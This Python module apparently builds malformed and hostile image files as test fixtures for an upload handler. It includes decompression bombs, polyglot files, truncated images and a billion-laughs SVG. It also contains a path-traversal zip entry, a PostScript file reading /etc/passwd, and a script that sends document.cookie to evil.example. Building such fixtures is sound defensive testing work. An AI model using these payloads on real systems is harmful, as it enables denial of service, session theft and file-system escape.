"""Files sent as photos: bombs, halves, two things at once, and no photos at all."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

_BOMB = 100_000_000
SCRIPT = b"<script>fetch('//evil.example/?'+document.cookie)</script>"


def _saved(kind: str, size: tuple[int, int] = (64, 64), **options: object) -> bytes:
    made = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(made, kind, **options)
    return made.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(name + data))
    return struct.pack(">I", len(data)) + name + data + check


def _png(width: int, height: int, data: bytes, *between: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = [_chunk(b"IHDR", header), *between, _chunk(b"IDAT", data), _chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def png_of_too_many_pixels() -> bytes:
    """30,000 x 30,000 pixels of nothing, in under a megabyte."""
    return _png(30_000, 30_000, zlib.compress(bytes(30_001 * 1_000), 9))


def png_that_says_it_is_endless() -> bytes:
    """2 to the 31 on a side."""
    return _png(2**31 - 1, 2**31 - 1, zlib.compress(bytes(1_000)))


def png_whose_pixels_unpack_to_much() -> bytes:
    """A small picture; its data go on and on."""
    return _png(64, 64, zlib.compress(bytes(_BOMB), 1))


def png_whose_words_unpack_to_much() -> bytes:
    """A comment of 100 MB."""
    words = b"Comment\x00\x00" + zlib.compress(bytes(_BOMB), 1)
    return _png(64, 64, zlib.compress(bytes(65 * 64)), _chunk(b"zTXt", words))


def png_whose_profile_unpacks_to_much() -> bytes:
    """A colour profile of 100 MB."""
    profile = b"icc\x00\x00" + zlib.compress(bytes(_BOMB), 1)
    return _png(64, 64, zlib.compress(bytes(65 * 64)), _chunk(b"iCCP", profile))


def gif_of_too_many_pixels() -> bytes:
    """65,535 on a side, in some bytes."""
    made = bytearray(_saved("GIF"))
    made[6:10] = struct.pack("<HH", 65_535, 65_535)
    return bytes(made)


def gif_of_many_frames() -> bytes:
    """Six hundred of them."""
    frames = [Image.new("P", (32, 32), number % 256) for number in range(600)]
    made = io.BytesIO()
    frames[0].save(made, "GIF", save_all=True, append_images=frames[1:])
    return made.getvalue()


def tiff_of_too_many_pixels() -> bytes:
    """20,000 x 20,000 in deflated strips."""
    made = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(made, "TIFF", compression="tiff_deflate")
    return made.getvalue()


def jpeg_that_says_it_is_huge() -> bytes:
    """65,500 on a side by its header; there are pixels for 64."""
    made = bytearray(_saved("JPEG"))
    place = made.index(b"\xff\xc0")
    made[place + 5 : place + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(made)


def jpeg_cut_in_half() -> bytes:
    """Its end is missing."""
    whole = _saved("JPEG", (400, 400))
    return whole[: len(whole) // 2]


def png_cut_in_half() -> bytes:
    """Its end is missing."""
    whole = _saved("PNG", (400, 400))
    return whole[: len(whole) // 2]


def png_with_wrong_checks() -> bytes:
    """One bit of its pixels has flipped."""
    whole = bytearray(_saved("PNG"))
    whole[len(whole) // 2] ^= 1
    return bytes(whole)


def webp_cut_in_half() -> bytes:
    """Its end is missing."""
    whole = _saved("WEBP", (400, 400))
    return whole[: len(whole) // 2]


def gif_that_is_a_script() -> bytes:
    """A browser that guesses might run it."""
    return b"GIF89a/*" + bytes(40) + b"*/=1;fetch('//evil.example/?'+document.cookie)//"


def jpeg_that_is_a_page() -> bytes:
    """A real photo with HTML behind it and in its comment."""
    whole = _saved("JPEG")
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    return whole[:2] + comment + whole[2:] + b"<html>" + SCRIPT


def jpeg_that_is_a_zip() -> bytes:
    """A real photo with an archive behind it."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../../../tmp/glasscase-escaped.txt", "escaped")
    return _saved("JPEG") + packed.getvalue()


def svg_with_a_script() -> bytes:
    """No photo: a document that runs."""
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


def svg_of_a_billion_laughs() -> bytes:
    """Entities of entities of entities."""
    names = [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    told = '<!DOCTYPE svg [<!ENTITY a0 "ha">' + "".join(names) + "]><svg>&a9;</svg>"
    return told.encode()


def zip_called_a_photo() -> bytes:
    """An archive of zeros."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", bytes(20_000_000))
    return packed.getvalue()


def postscript() -> bytes:
    """A program; Pillow would ask Ghostscript to run it."""
    return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\nshowpage\n"


def program() -> bytes:
    """An executable."""
    return b"\x7fELF\x02\x01\x01" + bytes(500)


def nothing() -> bytes:
    """No byte at all."""
    return b""


def noise() -> bytes:
    """No kind of file."""
    return bytes(range(256)) * 40


PHOTOS: tuple[Callable[[], bytes], ...] = (
    png_of_too_many_pixels, png_that_says_it_is_endless, png_whose_pixels_unpack_to_much,
    png_whose_words_unpack_to_much, png_whose_profile_unpacks_to_much,
    gif_of_too_many_pixels, gif_of_many_frames, tiff_of_too_many_pixels,
    jpeg_that_says_it_is_huge, jpeg_cut_in_half, png_cut_in_half, png_with_wrong_checks,
    webp_cut_in_half, gif_that_is_a_script, jpeg_that_is_a_page, jpeg_that_is_a_zip,
    svg_with_a_script, svg_of_a_billion_laughs, zip_called_a_photo, postscript, program, nothing,
    noise,
)  # fmt: skip
